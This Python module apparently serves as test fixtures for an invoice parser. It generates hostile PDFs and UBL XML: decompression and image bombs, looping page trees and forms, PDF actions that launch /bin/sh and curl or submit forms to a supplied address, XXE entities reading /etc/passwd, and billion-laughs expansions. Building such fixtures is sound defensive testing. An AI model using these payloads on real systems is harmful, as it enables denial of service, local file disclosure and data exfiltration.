"""Hostile documents of our own making: PDFs built object by object, and XML, each small on disk and harmful to a careless reader."""

from __future__ import annotations

import base64
import hashlib
import io
import zipfile
import zlib
from functools import cache

GIB = 1 << 30
_BLOCK = 1 << 20
_PADDING = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")

WORDS = "Facture 2026-77 Atelier Vernay SRL Date 11/02/2026 Total TVAC 121,00 EUR IBAN BE68 5390 0754 7034 Client Batiplus SA"


def stream(content: bytes, extra: bytes = b"") -> bytes:
    """A stream object's body."""
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (extra, len(content), content)


def pdf(objects: dict[int, bytes], trailer: bytes = b"") -> bytes:
    """A PDF of these numbered objects with a true cross-reference table; object 1 is the catalogue."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    places = {}
    for number, body in objects.items():
        places[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    start = out.tell()
    out.write(b"xref\n0 1\n0000000000 65535 f \n")
    for number, place in places.items():
        out.write(b"%d 1\n%010d 00000 n \n" % (number, place))
    size = max(objects) + 1
    out.write(b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start))
    return out.getvalue()


def page(
    content: bytes | None = None,
    *,
    extra: bytes = b"",
    resources: bytes = b"",
    catalogue: bytes = b"",
    more: dict[int, bytes] | None = None,
) -> bytes:
    """A PDF of one page. `content` is the body of its content stream's object (None: a few words of an invoice)."""
    text = b"BT /F 12 Tf 20 800 Td 14 TL " + b" ".join(b"(%s) '" % line.encode() for line in WORDS.split("  ")) + b" ET"
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R%s>>" % catalogue,
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 1200 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>%s>>%s>>"
        % (resources, extra),
        4: stream(text) if content is None else content,
        5: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    }
    return pdf(objects | (more or {}))


@cache
def deflated(size: int, filler: bytes = b" ") -> bytes:
    """zlib data that unpacks to so many equal bytes (a whole number of MiB): one packed MiB, repeated."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(filler * _BLOCK) + packer.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    return b"\x78\xda" + block * (size // _BLOCK) + end + b"\0\0\0\0"


def flate_bomb(size: int = GIB) -> bytes:
    """A page whose content unpacks to a gibibyte of blanks."""
    return page(stream(deflated(size), b"/Filter/FlateDecode"))


def nested_filters(depth: int = 4) -> bytes:
    """A page whose content is packed several times over, so that a kilobyte holds the gibibyte."""
    content = deflated(GIB)
    for _ in range(depth - 1):
        content = zlib.compress(content, 9)
    return page(stream(content, b"/Filter[%s]" % (b"/FlateDecode" * depth)))


def many_filters(count: int = 20_000) -> bytes:
    """A stream with thousands of filters."""
    return page(stream(b"00>" * 10, b"/Filter[%s]" % (b"/ASCIIHexDecode" * count)))


def picture(body: bytes) -> bytes:
    """A page that shows one picture and nothing else."""
    draw = stream(b"q 1200 0 0 842 0 0 cm /I Do Q")
    return page(draw, resources=b"/XObject<</I 6 0 R>>", more={6: body})


def _image(keys: bytes, content: bytes) -> bytes:
    return stream(content, b"/Type/XObject/Subtype/Image" + keys)


@cache
def picture_bombs() -> dict[str, bytes]:
    """Pictures that claim or unpack to far more points than a machine has memory for."""
    side = b"/Width 32000/Height 32000/BitsPerComponent 8/ColorSpace/DeviceRGB"
    bits = b"/Width 60000/Height 60000/BitsPerComponent 1/ColorSpace/DeviceGray"
    globe = b"\x00\x00\x00\x00\x30\x00\x01\x00\x00\x00\x13" + b"\x7f\xff\xff\xff" * 2 + b"\0" * 11
    siz = b"\xff\x51\x00\x2f\x00\x00" + b"\x7f\xff\xff\xff" * 2 + b"\0" * 8 + b"\x7f\xff\xff\xff" * 2 + b"\0" * 8
    jpx = b"\xff\x4f" + siz + b"\x00\x03" + b"\x07\x01\x01" * 3 + b"\xff\xd9"
    jpeg = (
        b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xdc\xff\xdc\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01\xff\xda\x00\x0c\x03\x01\x00\x02\x11\x03\x11\x00\x3f\x00"
        + b"\0" * 5000
        + b"\xff\xd9"
    )
    return {
        "flate": picture(_image(side + b"/Filter/FlateDecode", deflated(3 * GIB, b"\x80"))),
        "jbig2": picture(_image(bits + b"/Filter/JBIG2Decode", globe)),
        "jpx": picture(_image(side + b"/Filter/JPXDecode", jpx)),
        "ccitt": picture(
            _image(bits + b"/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 60000/Rows 60000>>", b"\xff" * 5000)
        ),
        "jpeg": picture(
            _image(b"/Width 65500/Height 65500/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/DCTDecode", jpeg)
        ),
        "runs": picture(
            _image(side + b"/Filter[/FlateDecode/RunLengthDecode]", zlib.compress(b"\x81\x80" * 20_000_000, 9))
        ),
        "huge": picture(_image(b"/Width 2147483647/Height 2147483647/BitsPerComponent 16/ColorSpace/DeviceCMYK", b"x")),
    }


def many_pages(count: int = 10_000) -> bytes:
    """Thousands of pages, all the same."""
    kids = b"3 0 R " * count
    return pdf(_tree(b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count)))


def lying_count() -> bytes:
    """One page that says it is two thousand million."""
    return pdf(_tree(b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>"))


def looping_tree() -> bytes:
    """A page tree that is its own child."""
    return pdf(_tree(b"<</Type/Pages/Kids[2 0 R 3 0 R 2 0 R]/Parent 2 0 R/Count 3>>"))


def _tree(pages: bytes) -> dict[int, bytes]:
    leaf = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<<>>>>"
    return {1: b"<</Type/Catalog/Pages 2 0 R>>", 2: pages, 3: leaf, 4: stream(b"q Q")}


def nested_forms(depth: int = 12, width: int = 10) -> bytes:
    """Forms that each show the next one ten times: a million million words of text."""
    more: dict[int, bytes] = {}
    for level in range(depth):
        number = 10 + level
        inner = b"BT /F 9 Tf (x) Tj ET" if level == depth - 1 else b"/X Do " * width
        names = b"/Resources<</Font<</F 5 0 R>>/XObject<</X %d 0 R>>>>" % (number + 1)
        more[number] = stream(inner, b"/Type/XObject/Subtype/Form/BBox[0 0 600 800]" + names)
    return page(stream(b"/X Do " * width), resources=b"/XObject<</X 10 0 R>>", more=more)


def looping_form() -> bytes:
    """A form that shows itself twice."""
    body = stream(b"/X Do /X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 10 0 R>>>>")
    return page(stream(b"/X Do"), resources=b"/XObject<</X 10 0 R>>", more={10: body})


def many_operators(count: int = 2_000_000) -> bytes:
    """Two million operators that draw."""
    return page(stream(zlib.compress(b"9 9 m 8 8 l S\n" * (count // 3)), b"/Filter/FlateDecode"))


def many_words(count: int = 700_000) -> bytes:
    """Two million operators that write."""
    words = b"BT /F 9 Tf " + b"1 0 0 1 50 50 Tm (Facture 7) Tj 1 1 Td\n" * count + b"ET"
    return page(stream(zlib.compress(words), b"/Filter/FlateDecode"))


def deep(opening: bytes, closing: bytes, depth: int = 500_000) -> bytes:
    """Brackets in brackets, in an object of the file."""
    return page(more={9: opening * depth + closing * depth}, extra=b"/X 9 0 R")


def deep_content(depth: int = 500_000) -> bytes:
    """Brackets in brackets, in the content of the page."""
    return page(stream(zlib.compress(b"[" * depth + b"] TJ "), b"/Filter/FlateDecode"))


def huge_table() -> bytes:
    """A cross-reference table that announces two thousand million objects."""
    whole = page()
    return whole.replace(b"xref\n0 1\n", b"xref\n0 2147483647\n").replace(b"/Size 6", b"/Size 2147483647")


def huge_xref_stream() -> bytes:
    """A cross-reference stream of two thousand million entries that unpacks to a gibibyte."""
    keys = b"/Type/XRef/Size 2147483647/W[1 8 8]/Root 1 0 R/Filter/FlateDecode/Index[0 2147483647]"
    body = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\n"
    return body + b"2 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF" % (stream(deflated(GIB, b"\1"), keys), len(body))


def object_stream() -> bytes:
    """An object stream that says it holds two thousand million objects, and unpacks to a gibibyte."""
    keys = b"/Type/ObjStm/N 2147483647/First 2147483646/Filter/FlateDecode/Extends 7 0 R"
    return page(more={7: stream(deflated(GIB, b"1"), keys)}, extra=b"/Annots 7 0 R")


def looping_tables() -> bytes:
    """A trailer whose previous one is itself."""
    whole = page()
    return whole.replace(b"/Size 6", b"/Prev %d/Size 6" % whole.rfind(b"xref\n0 1"))


def looping_references() -> bytes:
    """Objects that are references to each other, on a page with words printed over one another."""
    piled = ((20, 800, WORDS), (20, 700, "Merci de votre confiance et cordialement"), (25, 700, "COPY " * 7))
    shown = b"\n".join(b"BT /F 12 Tf %d %d Td (%s) Tj ET" % (x, y, text.encode()) for x, y, text in piled)
    return page(
        stream(shown),
        more={9: b"10 0 R", 10: b"9 0 R", 11: stream(b"x", b"/Filter 9 0 R/Length 11 0 R")},
        extra=b"/Rotate 9 0 R/Annots[9 0 R 11 0 R]",
    )


def wide_table_of_characters() -> bytes:
    """A font whose table gives text to four thousand million codes."""
    ranges = b"<00000000> <ffffffff> <0041>\n" * 100
    table = (
        b"begincmap 1 begincodespacerange <00000000> <ffffffff> endcodespacerange 100 beginbfrange\n%sendbfrange endcmap"
        % ranges
    )
    font = b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/ToUnicode 7 0 R/DescendantFonts[8 0 R]>>"
    inner = b"<</Type/Font/Subtype/CIDFontType2/BaseFont/X/CIDSystemInfo<</Registry(A)/Ordering(I)/Supplement 0>>/W[0 4294967295 500]>>"
    return page(stream(b"BT /F 9 Tf <00410042> Tj ET"), more={5: font, 7: stream(table), 8: inner})


def with_file(content: bytes, keys: bytes = b"", name: bytes = b"factur-x.xml") -> bytes:
    """An invoice's page with a file inside; `keys` go into that file's stream."""
    names = b"/Names<</EmbeddedFiles<</Names[(%s) 7 0 R]>>>>" % name
    spec = b"<</Type/Filespec/F(%s)/UF(%s)/EF<</F 8 0 R>>>>" % (name, name)
    return page(catalogue=names, more={7: spec, 8: stream(content, b"/Type/EmbeddedFile" + keys)})


def file_bomb() -> bytes:
    """An invoice's page with a file inside that unpacks to a gibibyte."""
    return with_file(deflated(GIB), b"/Filter/FlateDecode")


def active(address: str) -> bytes:
    """A page that would run programs and scripts, and fetch from `address`, in a viewer that lets it."""
    where = address.encode()
    acts = [
        b"<</S/JavaScript/JS(app.launchURL\\('%s/js'\\);this.submitForm\\('%s/f'\\);)>>" % (where, where),
        b"<</S/Launch/F(/bin/sh)/Unix<</F(/usr/bin/curl)/P(%s/launch)>>>>" % where,
        b"<</S/URI/URI(%s/uri)>>" % where,
        b"<</S/GoToR/F<</FS/URL/F(%s/remote.pdf)>>/D[0/Fit]>>" % where,
        b"<</S/SubmitForm/F<</FS/URL/F(%s/submit)>>>>" % where,
        b"<</S/ImportData/F<</FS/URL/F(%s/data)>>>>" % where,
        b"<</S/Rendition/R<</S/MR/C<</S/MCD/D<</FS/URL/F(%s/clip)>>>>>>>>" % where,
    ]
    more = {20 + place: act for place, act in enumerate(acts)}
    chain = b"/OpenAction<</S/JavaScript/JS(1)/Next[%s]>>" % b" ".join(b"%d 0 R" % number for number in more)
    remote = (
        b"<</Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceGray/F<</FS/URL/F(%s/image)>>/Length 0>>stream\n\nendstream"
        % where
    )
    form = b"/AcroForm<</Fields[]/XFA(<x href='%s/xfa'/>)>>/AA<</WC 20 0 R/DP 21 0 R>>" % where
    return page(
        catalogue=chain + form,
        extra=b"/AA<</O 20 0 R/C 21 0 R>>",
        resources=b"/XObject<</I 40 0 R>>",
        more=more | {40: remote},
    )


def locked(password: bytes = b"") -> bytes:
    """A page encrypted for `password` (RC4 of 40 bits, revision 2 of ISO 32000-1, 7.6.3); an empty one opens for everybody."""
    padded = (password + _PADDING)[:32]
    owner = _rc4(hashlib.md5(padded).digest()[:5], padded)
    rights, name = (0xFFFFFFFC).to_bytes(4, "little"), b"0123456789abcdef"
    key = hashlib.md5(padded + owner + rights + name).digest()[:5]
    user = _rc4(key, _PADDING)
    own = hashlib.md5(key + (4).to_bytes(3, "little") + b"\0\0").digest()[:10]
    text = b"BT /F 12 Tf 20 800 Td (%s) Tj ET" % WORDS.encode()
    whole = page(stream(_rc4(own, text)))
    door = b"/ID[<%s><%s>]/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<%s>/U<%s>>>" % (
        name.hex().encode(), name.hex().encode(), owner.hex().encode(), user.hex().encode(),
    )  # fmt: skip
    return whole.replace(b"/Root 1 0 R", b"/Root 1 0 R" + door)


def _rc4(key: bytes, data: bytes) -> bytes:
    state, place = list(range(256)), 0
    for index in range(256):
        place = (place + state[index] + key[index % len(key)]) % 256
        state[index], state[place] = state[place], state[index]
    out, left, right = bytearray(), 0, 0
    for byte in data:
        left = (left + 1) % 256
        right = (right + state[left]) % 256
        state[left], state[right] = state[right], state[left]
        out.append(byte ^ state[(state[left] + state[right]) % 256])
    return bytes(out)


def zipped(members: dict[str, bytes]) -> bytes:
    """A ZIP archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


UBL = (
    '<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"{attributes}><ID>2026-77</ID>{inside}'
    "<IssueDate>2026-02-11</IssueDate><DueDate>2026-03-13</DueDate><DocumentCurrencyCode>EUR</DocumentCurrencyCode>"
    "<LegalMonetaryTotal><TaxInclusiveAmount>121.00</TaxInclusiveAmount><PayableAmount>121.00</PayableAmount></LegalMonetaryTotal></Invoice>"
)


def ubl(inside: str = "", before: str = "", attributes: str = "", encoding: str = "utf-8") -> bytes:
    """A small UBL invoice with something inside it, or before its root."""
    return f"{before}{UBL.format(attributes=attributes, inside=inside)}".encode(encoding)


def laughs(levels: int = 9) -> str:
    """A DOCTYPE whose entities each stand for ten of the one before, thousand million times `lol` in the end."""
    lines = ["<!ENTITY a0 'lol'>"]
    lines += [f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, levels + 1)]
    return f"<!DOCTYPE Invoice [{''.join(lines)}]>"


def fetching_xml(address: str) -> dict[str, bytes]:
    """XML that points a careless reader at `address`, or at a file of this machine."""
    system = f"<!DOCTYPE Invoice [<!ENTITY x SYSTEM '{address}/entity'>]>"
    percent = f"<!DOCTYPE Invoice [<!ENTITY % x SYSTEM '{address}/percent'> %x;]>"
    return {
        "entity": ubl("<Note>&x;</Note>", system),
        "file": ubl("<Note>&x;</Note>", "<!DOCTYPE Invoice [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"),
        "parameter": ubl("", percent),
        "dtd": ubl("", f"<!DOCTYPE Invoice SYSTEM '{address}/dtd'>"),
        "include": ubl(
            f"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='{address}/include' parse='text'/>"
        ),
        "schema": ubl(
            "", "", f" xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:schemaLocation='urn:x {address}/xsd'"
        ),
        "stylesheet": ubl("", f"<?xml-stylesheet type='text/xsl' href='{address}/xsl'?>"),
        "reference": ubl(
            f"<AdditionalDocumentReference><ID>1</ID><Attachment><ExternalReference><URI>{address}/annex.pdf</URI></ExternalReference></Attachment></AdditionalDocumentReference>"
        ),
    }


def annexed(content: bytes, name: str = "a.pdf") -> bytes:
    """A UBL invoice that carries a file."""
    data = base64.b64encode(content).decode()
    return ubl(
        "<AdditionalDocumentReference><ID>1</ID><Attachment><EmbeddedDocumentBinaryObject mimeCode='application/pdf' "
        f"filename='{name}'>{data}</EmbeddedDocumentBinaryObject></Attachment></AdditionalDocumentReference>"
    )


@cache
def heavy_xml() -> dict[str, bytes]:
    """XML that costs memory or time out of all proportion."""
    square = f"<!DOCTYPE Invoice [<!ENTITY x '{'a' * 50_000}'>]>"
    return {
        "laughs": ubl("<Note>&a9;</Note>", laughs()),
        "laughs in an attribute": ubl("", laughs(), ' lang="&a9;"'),
        "square": ubl(f"<Note>{'&x;' * 50_000}</Note>", square),
        "laughs in UTF-16": ubl("<Note>&a9;</Note>", "\ufeff" + laughs(), encoding="utf-16-le"),
        "laughs in UTF-7": ubl("<Note>&a9;</Note>", '<?xml version="1.0" encoding="UTF-7"?>' + laughs()).replace(
            b"<!", b"+ADwAIQ-"
        ),
        "deep": ubl("<a>" * 1_000_000 + "</a>" * 1_000_000),
        "wide": ubl("<a/>" * 500_000),
        "attributes": ubl("", "", "".join(f' a{n}="1"' for n in range(500_000))),
        "names": ubl("".join(f"<n{n}/>" for n in range(60_000))),
        "comment": ubl("", f"<!--{'x' * 15_000_000}-->"),
        "number": ubl().replace(b"121.00", b"9" * 1_000_000),
        "digits of a date": ubl().replace(b"2026-02-11", b"9" * 1_000_000),
        "annex in annex": annexed(annexed(annexed(annexed(page(), "a.xml"), "b.xml"), "c.xml"), "d.xml"),
        "many annexes": ubl(
            "<AdditionalDocumentReference><ID>1</ID><Attachment><EmbeddedDocumentBinaryObject>AAAA</EmbeddedDocumentBinaryObject></Attachment></AdditionalDocumentReference>"
            * 20_000
        ),
    }
